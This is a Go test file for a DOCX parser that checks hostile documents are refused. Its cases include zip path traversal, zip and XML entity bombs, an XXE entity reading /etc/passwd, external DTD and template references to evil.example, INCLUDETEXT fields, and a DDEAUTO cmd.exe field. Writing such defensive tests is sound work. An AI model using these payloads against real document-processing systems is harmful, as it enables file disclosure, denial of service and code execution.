package ooxml

import (
	"archive/zip"
	"bytes"
	"errors"
	"hash/crc32"
	"io"
	"strings"
	"testing"

	"countersign/forms/internal/docxtest"
)

const paragraph = `<w:p><w:r><w:t>x</w:t></w:r></w:p>`

// rawZip packs entries with full control over names and methods.
func rawZip(t *testing.T, headers []*zip.FileHeader, data []string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for i, h := range headers {
		w, err := zw.CreateRaw(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, data[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// refused is a file that Open must not accept, and the code it must give.
type refused struct {
	name string
	docx []byte
	code string
}

func hostileFiles(t *testing.T) []refused {
	good := docxtest.Docx(t, paragraph)
	document := func(xml string) []byte {
		return docxtest.Docx(t, "", docxtest.Part{Name: "word/document.xml", Data: xml})
	}
	body := func(xml string) []byte { return docxtest.Docx(t, xml) }
	with := func(name, data string) []byte {
		return docxtest.Docx(t, paragraph, docxtest.Part{Name: name, Data: data})
	}
	lying := &zip.FileHeader{Name: "[Content_Types].xml", Method: zip.Store, CompressedSize64: 4, UncompressedSize64: 1 << 40}
	encrypted := &zip.FileHeader{Name: "word/document.xml", Method: zip.Store, Flags: 1, CompressedSize64: 1, UncompressedSize64: 1}
	bzip := &zip.FileHeader{Name: "word/document.xml", Method: 12, CompressedSize64: 1, UncompressedSize64: 1}
	return []refused{
		{"nothing", nil, "not_a_docx"},
		{"plain text", []byte("hello"), "not_a_docx"},
		{"cut off", good[:len(good)-30], "not_a_docx"},
		{"empty archive", docxtest.Zip(t), "not_a_docx"},
		{"some other archive", docxtest.Zip(t, docxtest.Part{Name: "a.txt", Data: "a"}), "not_a_docx"},
		{"no relationships", docxtest.Zip(t, docxtest.Part{Name: "[Content_Types].xml", Data: "<Types/>"}), "not_a_docx"},
		{"relationship to nothing", docxtest.Zip(t, docxtest.Part{Name: "[Content_Types].xml", Data: "<Types/>"},
			docxtest.Part{Name: "_rels/.rels", Data: `<Relationships><Relationship Type="` + relDocument + `" Target="../../etc/passwd"/></Relationships>`}), "not_a_docx"},
		{"path upwards", with("../evil.xml", "x"), "bad_name"},
		{"path upwards inside", with("word/../../evil.xml", "x"), "bad_name"},
		{"absolute path", with("/etc/passwd", "x"), "bad_name"},
		{"backslashes", with(`word\evil.xml`, "x"), "bad_name"},
		{"drive letter", with("c:evil.xml", "x"), "bad_name"},
		{"doubled entry", with("WORD/document.xml", "x"), "bad_name"},
		{"bomb by ratio", with("word/bomb.bin", strings.Repeat("\x00", 17<<20)), "too_large"},
		{"size claimed only", rawZip(t, []*zip.FileHeader{lying}, []string{"abcd"}), "too_large"},
		{"encrypted", rawZip(t, []*zip.FileHeader{encrypted}, []string{"x"}), "not_a_docx"},
		{"unknown packing", rawZip(t, []*zip.FileHeader{bzip}, []string{"x"}), "not_a_docx"},
		{"DTD", document(`<!DOCTYPE w:document SYSTEM "http://evil.example/x.dtd"><w:document ` + docxtest.Namespaces + `/>`), "bad_xml"},
		{"entity bomb", document(`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document ` + docxtest.Namespaces + `>&b;</w:document>`), "bad_xml"},
		{"unknown entity", document(docxtest.Document(`<w:p>&evil;</w:p>`)), "bad_xml"},
		{"not closed", document(`<w:document ` + docxtest.Namespaces + `>`), "bad_xml"},
		{"no element", document(`<?xml version="1.0"?>`), "bad_xml"},
		{"other encoding", document(`<?xml version="1.0" encoding="GBK"?><w:document ` + docxtest.Namespaces + `/>`), "bad_xml"},
		{"not UTF-8", body("<w:p>\xff\xfe</w:p>"), "bad_xml"},
		{"deep", body(strings.Repeat("<w:p>", 300) + strings.Repeat("</w:p>", 300)), "bad_xml"},
		{"very deep", body(strings.Repeat("<w:p>", 100000) + strings.Repeat("</w:p>", 100000)), "bad_xml"},
		{"many elements", body(strings.Repeat("<w:p/>", 500000)), "too_large"},
		{"many attributes", body("<w:p " + manyAttributes(2000000) + "/>"), "too_large"},
		{"some attributes too many", body("<w:p " + manyAttributes(200) + "/>"), "too_large"},
		{"doubled attribute", body(`<w:p w:a="1" w:a="2"/>`), "bad_xml"},
		{"rebound prefix", body(`<w:p xmlns:w="http://evil.example/"/>`), "unsupported"},
		{"strict Open XML", document(`<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>`), "unsupported"},
	}
}

func TestOpenRefuses(t *testing.T) {
	for _, tt := range hostileFiles(t) {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Open(tt.docx, DefaultLimits)
			var why *Error
			if !errors.As(err, &why) {
				t.Fatalf("got %v, want an *Error", err)
			}
			if why.Code != tt.code || why.Message == "" {
				t.Errorf("got %q (%v), want code %q", why.Code, err, tt.code)
			}
		})
	}
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("a")
		b.WriteString(strings.Repeat("b", i%7))
		b.WriteString(`="" `)
	}
	return b.String()
}

func TestOpenLimitsWholeFile(t *testing.T) {
	limits := DefaultLimits
	limits.File = 100
	if _, err := Open(docxtest.Docx(t, paragraph), limits); err == nil {
		t.Error("a file above the limit was opened")
	}
	limits = DefaultLimits
	limits.Entries = 2
	if _, err := Open(docxtest.Docx(t, paragraph), limits); err == nil {
		t.Error("a file with too many entries was opened")
	}
}

func TestOpenFindsRenamedMainPart(t *testing.T) {
	docx := docxtest.Zip(t,
		docxtest.Part{Name: "[Content_Types].xml", Data: "<Types/>"},
		docxtest.Part{Name: "_rels/.rels", Data: `<Relationships><Relationship Type="` + relDocument + `" Target="/word/document2.xml"/></Relationships>`},
		docxtest.Part{Name: "word/document2.xml", Data: docxtest.Document(paragraph)})
	f, err := Open(docx, DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	if f.document != "word/document2.xml" {
		t.Errorf("main part %q", f.document)
	}
}

// damaged returns a file with one wrong byte in a part without controls.
func damaged(t *testing.T) []byte {
	t.Helper()
	noise := strings.Repeat("unpackable noise", 3)
	entry := &zip.FileHeader{Name: "word/media/x.bin", Method: zip.Store, CompressedSize64: uint64(len(noise)), UncompressedSize64: uint64(len(noise)), CRC32: 1}
	headers, data := []*zip.FileHeader{entry}, []string{noise}
	for name, content := range docxtest.Unzip(t, docxtest.Docx(t, paragraph)) {
		headers = append(headers, &zip.FileHeader{Name: name, Method: zip.Store, CRC32: crc32.ChecksumIEEE(content),
			CompressedSize64: uint64(len(content)), UncompressedSize64: uint64(len(content))})
		data = append(data, string(content))
	}
	return rawZip(t, headers, data)
}

func TestCheckTemplate(t *testing.T) {
	rels := func(kind, target, mode string) docxtest.Part {
		return docxtest.Part{Name: "word/_rels/document.xml.rels", Data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="` + mode + `"/></Relationships>`}
	}
	field := func(code string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + code + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	tests := []struct {
		name    string
		docx    []byte
		refused bool
	}{
		{"plain", docxtest.Docx(t, paragraph), false},
		{"page number", docxtest.Docx(t, `<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`), false},
		{"hyperlink", docxtest.Docx(t, paragraph, rels("hyperlink", "https://example.org/", "External")), false},
		{"field that only looks like a link", docxtest.Docx(t, field(` HYPERLINK "https://example.org" `)), false},
		{"macros", docxtest.Docx(t, paragraph, docxtest.Part{Name: "word/vbaProject.bin", Data: "x"}), true},
		{"embedded object", docxtest.Docx(t, paragraph, docxtest.Part{Name: "word/embeddings/oleObject1.bin", Data: "x"}), true},
		{"outside template", docxtest.Docx(t, paragraph, rels("attachedTemplate", "https://evil.example/t.dotm", "External")), true},
		{"outside picture", docxtest.Docx(t, paragraph, rels("image", "file:///etc/passwd", "External")), true},
		{"foreign chunk", docxtest.Docx(t, paragraph, rels("aFChunk", "chunk.html", "")), true},
		{"include field", docxtest.Docx(t, field(` INCLUDETEXT "file:///etc/passwd" `)), true},
		{"include field in two pieces", docxtest.Docx(t, field(` INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example/x.png" `)), true},
		{"DTD in a part that is only copied", docxtest.Docx(t, paragraph, docxtest.Part{Name: "word/styles.xml", Data: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>`}), true},
		{"damaged part that is only copied", damaged(t), true},
		{"DDE", docxtest.Docx(t, `<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/></w:p>`), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := Open(tt.docx, DefaultLimits)
			if err != nil {
				t.Fatal(err)
			}
			if err := f.CheckTemplate(); (err != nil) != tt.refused {
				t.Errorf("got %v, want refused %v", err, tt.refused)
			}
		})
	}
}
